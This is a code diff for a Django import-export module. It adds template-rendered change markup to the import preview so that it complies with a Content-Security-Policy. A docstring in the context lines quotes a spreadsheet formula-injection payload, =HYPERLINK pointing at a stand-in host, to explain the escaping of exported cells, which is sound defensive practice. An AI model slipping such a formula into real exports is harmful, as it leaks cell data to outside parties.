@@ -7,7 +7,10 @@ admin rolls the whole file back. Ordered people travel as one cell, "First Perso
 import re
 from datetime import UTC, datetime
 
+from diff_match_patch import diff_match_patch
 from django.db import models
+from django.template.loader import render_to_string
+from django.utils.encoding import force_str
 from django.utils.text import slugify
 from import_export import fields, resources, widgets
 
@@ -90,12 +93,33 @@ class WorkshopRoomWidget(widgets.ForeignKeyWidget):
         return {"slug": value, "workshop__slug": (row or {}).get("workshop")}
 
 
+class MarkedDiff(resources.Diff):
+    """The import preview's changes marked up by a template (<ins>, <del>, styled in static/css/admin.css),
+    instead of diff-match-patch's HTML, whose inline styles the Content-Security-Policy refuses."""
+
+    def as_html(self):
+        matcher = diff_match_patch()
+        cells = []
+        for old, new in zip(self.left, self.right):
+            # As django-import-export does: a new row shows its values whole, not as a change from nothing.
+            if old != new and self.new:
+                old = ""
+            parts = matcher.diff_main(force_str(old), force_str(new))
+            matcher.diff_cleanupSemantic(parts)
+            cells.append(render_to_string("admin/import_export/_diff.html", {"parts": parts}))
+        return cells
+
+
 class ProgrammeResource(resources.ModelResource):
     """Long text columns read like short ones: an empty cell is an empty text. django-import-export gives a
     TextField its generic widget, which turns the empty cell an XLSX file has into None, and a NOT NULL error.
 
     Every cell is written with escape_formula, whatever the format: titles and names come from speakers, and a
     title like =HYPERLINK("http://evil.example/?x="&A1) would run in the organizer's spreadsheet."""
+
+    @classmethod
+    def get_diff_class(cls):
+        return MarkedDiff
 
     @classmethod
     def widget_from_django_field(cls, f, default=widgets.Widget):
